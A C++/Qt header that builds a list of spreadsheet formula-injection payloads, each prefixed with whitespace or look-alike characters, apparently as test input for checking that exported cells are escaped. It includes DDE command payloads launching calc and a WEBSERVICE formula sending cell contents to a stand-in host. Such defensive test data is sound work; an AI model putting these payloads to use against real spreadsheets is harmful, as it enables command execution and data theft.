// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

#include <QStringList>

/// Texts with which a platform, or a customer through it, could try to run something in a spreadsheet.
inline QStringList injectionPayloads()
{
    using namespace Qt::StringLiterals;
    const QStringList formulas{
        u"=1+1"_s,
        u"=cmd|' /C calc'!A0"_s,
        u"=HYPERLINK(\"http://x.example\",\"看\")"_s,
        u"=SUM(A1:A9)"_s,
        u"=WEBSERVICE(\"http://x.example/\"&A1)"_s,
        u"=IMPORTXML(\"http://x.example\",\"//a\")"_s,
        u"=DDE(\"a\";\"b\";\"c\")"_s,
        u"+1+1"_s,
        u"+cmd|'/C calc'!A0"_s,
        u"+86 138,0013"_s,
        u"-1+1"_s,
        u"-2+3+cmd|' /C calc'!A0"_s,
        u"-A1"_s,
        u"@SUM(1+1)*cmd|' /C calc'!A0"_s,
        u"@A1"_s,
        u"＝1+1"_s,
        u"＝cmd|' /C calc'!A0"_s,
        u"＋1+1"_s,
        u"－1+1"_s,
        u"＠SUM(A1)"_s,
        u"=\"a\"&\"b\""_s,
        u"=1\r\n=2"_s,
        u"=a;=b"_s,
        u"=A1,=A2"_s,
        u"−1+A1"_s,
    };
    const QStringList fronts{QString(),   u" "_s,      u"\t"_s,     u"\r"_s,     u"\n"_s,   u"\r\n"_s,
                             u"\u00A0"_s, u"\u3000"_s, u"\uFEFF"_s, u"\u200B"_s, u" \t "_s, u"\u202E"_s};
    QStringList payloads{u"\tx"_s, u"\rx"_s, u"\nx"_s, u"="_s, u"+"_s, u"-"_s, u"@"_s, u"＝"_s};
    for (const QString &front : fronts) {
        for (const QString &formula : formulas)
            payloads.append(front + formula);
    }
    return payloads;
}
